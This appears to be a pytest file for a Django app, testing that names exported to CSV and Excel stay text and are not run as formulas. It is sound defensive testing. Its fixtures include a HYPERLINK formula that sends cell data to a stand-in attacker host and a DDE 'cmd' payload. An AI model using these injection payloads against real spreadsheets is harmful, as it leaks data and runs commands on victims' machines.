"""Names users type travel into spreadsheets (CSV, Excel); one that starts with "=" must stay text there,
never become a formula a spreadsheet runs (CSV / formula injection)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from assessments.models import Membership
from assessments.reports.exporters.csv import neutralise_formulas
from assessments.services.assessments import assessment_submit
from tests.factories import (
    AssessmentFactory,
    BusinessFunctionFactory,
    MembershipFactory,
    answer_all,
    complete_profile,
)

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def consultant(org_a):
    return MembershipFactory(organisation=org_a, role=Membership.Role.CONSULTANT).user


def _submitted(org, user, name, capture):
    assessment = AssessmentFactory(organisation=org, name=name)
    complete_profile(assessment)
    answer_all(BusinessFunctionFactory(assessment=assessment, name=EVIL))
    with capture(execute=True):
        assessment_submit(assessment=assessment, user=user)
    return assessment


def test_the_scores_csv_keeps_a_formula_like_name_as_text(org_a, consultant, settings,
                                                         django_capture_on_commit_callbacks):  # fmt: skip
    settings.TCO_DRAWS = 200
    assessment = _submitted(org_a, consultant, "+cmd|' /C calc'!A0", django_capture_on_commit_callbacks)
    api = APIClient()
    api.force_authenticate(consultant)
    response = api.get(f"/api/v1/assessments/{assessment.pk}/scores.csv")
    assert response.status_code == 200, response.content[:300]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert rows and {row["function"] for row in rows} == {"'" + EVIL}
    assert all(not row[column].startswith(("=", "+", "@")) for row in rows for column in row)
    assert any(row["delta_vs_baseline"].startswith("-") for row in rows)  # negative numbers keep their sign


def test_the_comparison_workbook_stores_a_formula_like_name_as_text(client, org_a, consultant, settings,
                                                                   django_capture_on_commit_callbacks):  # fmt: skip
    settings.TCO_DRAWS = 200
    first = _submitted(org_a, consultant, "=1+1", django_capture_on_commit_callbacks)
    second = _submitted(org_a, consultant, "Second", django_capture_on_commit_callbacks)
    client.force_login(consultant)
    response = client.get(f"{reverse('assessments:compare-export')}?ids={first.pk}&ids={second.pk}")
    assert response.status_code == 200, response.content[:300]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]  # fmt: skip
    assert cells, "the names should be in the workbook"
    assert all(cell.data_type == "s" for cell in cells)  # text, not formulas


def test_neutralising_touches_text_only():
    import pandas as pd

    frame = pd.DataFrame({"name": ["=SUM(A1)", "-x", "Payroll", "@me"], "delta": [-1.5, 2.0, -3.0, 0.0]})
    out = neutralise_formulas(frame)
    assert list(out["name"]) == ["'=SUM(A1)", "'-x", "Payroll", "'@me"]
    assert list(out["delta"]) == [-1.5, 2.0, -3.0, 0.0]
    assert list(frame["name"])[0] == "=SUM(A1)"  # the input is not changed
